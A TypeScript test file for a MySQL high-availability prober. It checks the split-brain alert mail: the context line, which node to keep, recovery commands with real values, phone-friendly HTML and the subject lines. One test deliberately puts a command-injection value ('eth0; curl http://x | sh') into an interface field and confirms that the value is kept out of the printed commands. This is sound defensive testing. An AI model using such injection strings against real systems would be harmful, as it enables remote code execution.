/** The mail for someone woken at 3 a.m.: where, which node to keep, the commands with real values, links. */
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { decide } from "../../../shared/domain/alert-policy.ts";
import { assess } from "../../../shared/domain/assess.ts";
import { subjectFor } from "../../../shared/domain/mail.ts";
import type { Assessment, ClusterState } from "../../../shared/domain/state.ts";
import { input, nodesView, sqlView } from "../../helpers/cluster.ts";

const T0 = Date.parse("2026-11-24T03:00:00Z");
const at = (s: number) => new Date(T0 + s * 1000);
const healthy = assess(input(sqlView("a"), nodesView("a")));
const split = (writes: Assessment["writes"]): Assessment => ({
  ...assess(input(sqlView("a"), nodesView("both"))),
  writes,
});
const CONTEXT = {
  vip: "192.0.2.100",
  account: "123456789012",
  region: "eu-west-1",
  dashboardUrl:
    "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#dashboards:name=mysql-ha-prober-prod",
  logsUrl:
    "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/x",
};

function splitBrainMails(writes: Assessment["writes"][]) {
  let prev: ClusterState = decide("prod", null, healthy, at(0), undefined, CONTEXT).state;
  return writes.map((w, i) => {
    const d = decide("prod", prev, split(w), at((i + 1) * 60), undefined, CONTEXT);
    prev = d.state;
    return d;
  });
}

describe("the mail at 3 a.m.", () => {
  it("names account, region, cluster and VIP up front, and links the dashboard and the logs", () => {
    const [d] = splitBrainMails([{ a: null, b: null }]);
    const text = d?.alert?.text ?? "";
    expect(text.split("\n")[1]).toBe(
      "Cluster prod, VIP 192.0.2.100, account 123456789012, region eu-west-1.",
    );
    expect(text).toContain(`Dashboard: ${CONTEXT.dashboardUrl}`);
    expect(d?.alert?.html).toContain(`<a href="${CONTEXT.dashboardUrl}">Dashboard</a>`);
  });

  it("a split brain names the node that took writes during it as the one to keep, and the commands carry real values", () => {
    const ds = splitBrainMails([{ a: "1-1-5", b: null }]);
    const text = ds[0]?.alert?.text ?? "";
    expect(text).toContain("node A took writes (its own GTIDs grew: 1-1-5); node B took no writes");
    expect(text).toContain("Keep node A (it took the writes); give up the VIP on node B.");
    expect(text).toContain("On node B (192.0.2.12), to give the VIP up:");
    expect(text).toContain("  ip addr del 192.0.2.100/24 dev eth0");
    expect(text).not.toMatch(/VIP\/prefix|IFACE|<VIP>|<if>/);
  });

  it("a node report's interface that is no plain name never reaches the commands: <interface> instead", () => {
    const view = nodesView("both");
    for (const r of [view.a, view.b]) if (r.ok) r.report.vip.interface = "eth0; curl http://x | sh";
    const a = { ...assess(input(sqlView("a"), view)), writes: { a: "1-1-5", b: null } };
    const prev = decide("prod", null, healthy, at(0), undefined, CONTEXT).state;
    const text = decide("prod", prev, a, at(60), undefined, CONTEXT).alert?.text ?? "";
    expect(text).toContain("  ip addr del 192.0.2.100/24 dev <interface>");
    expect(text).not.toContain("curl");
  });

  it("the writes accumulate over the split; both nodes writing says the data diverged", () => {
    const ds = splitBrainMails([
      { a: "1-1-5", b: null },
      { a: null, b: "2-2-9" },
    ]);
    expect(ds[1]?.state.splitBrain?.writes).toEqual({ a: "1-1-5", b: "2-2-9" });
    // the reminder (15 min) would carry it; the state does now
    const end = decide("prod", ds[1]?.state ?? null, healthy, at(400), undefined, CONTEXT);
    expect(end.state.splitBrain?.writes).toEqual({ a: "1-1-5", b: "2-2-9" }); // kept in the state that ends it
  });

  it("the HTML is made for a phone: viewport, no fixed widths, commands scroll inside their box", () => {
    const html = splitBrainMails([{ a: "1-1-5", b: null }])[0]?.alert?.html ?? "";
    expect(html).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
    expect(html).toMatch(/<pre style="[^"]*overflow-x:auto/);
    expect(html).not.toMatch(/width="\d+"/);
  });
});

describe("the whole split-brain mail, as it goes out", () => {
  // Reviewed by hand once (test/fixtures/mail/): any change to the mail shows up here as a diff to read.
  const golden = (name: string) =>
    readFileSync(new URL(`../../fixtures/mail/${name}`, import.meta.url), "utf8");
  it("text and HTML, byte for byte: where, whom to keep, the commands with real values, the table, the actions, the links", () => {
    const ctx = { ...CONTEXT, dashboardUrl: "https://d.example/x", logsUrl: "https://l.example/y" };
    const prev = decide("prod", null, healthy, at(0), undefined, ctx).state;
    const d = decide("prod", prev, split({ a: null, b: "1-2-7" }), at(60), undefined, ctx);
    expect(d.alert?.subject).toBe("[mysql-ha] prod: HEALTHY -> *** SPLIT BRAIN ***");
    expect(d.alert?.text).toBe(golden("split-brain.txt"));
    expect(d.alert?.html).toBe(golden("split-brain.html"));
  });
});

describe("subjects", () => {
  const inc = (code: string, subject?: string) => ({ code, subject }) as never;
  it.each([
    ["transition", "HEALTHY", "DOWN", [], "[mysql-ha] prod: HEALTHY -> DOWN"],
    ["transition", null, "DEGRADED", [], "[mysql-ha] prod: first probe -> DEGRADED"],
    ["reminder", "DOWN", "DOWN", [], "[mysql-ha] prod: still DOWN (since 2026-11-24T03:00:00.000Z)"],
    [
      "incident",
      "HEALTHY",
      "HEALTHY",
      [
        inc("MYSQL_RESTARTED", "b"),
        inc("MYSQL_RESTARTED", "b"),
        inc("KEEPALIVED_FLAPPED", "pair"),
        inc("HOLDER_WRITES_FAILED", "vip"),
      ],
      "[mysql-ha] prod: INCIDENT MYSQL_RESTARTED on node B, KEEPALIVED_FLAPPED, HOLDER_WRITES_FAILED on the VIP (status HEALTHY)",
    ],
  ] as const)("%s %s -> %s", (kind, from, to, opened, subject) => {
    expect(subjectFor("prod", kind, from, to, "2026-11-24T03:00:00.000Z", opened as never)).toBe(subject);
  });
});
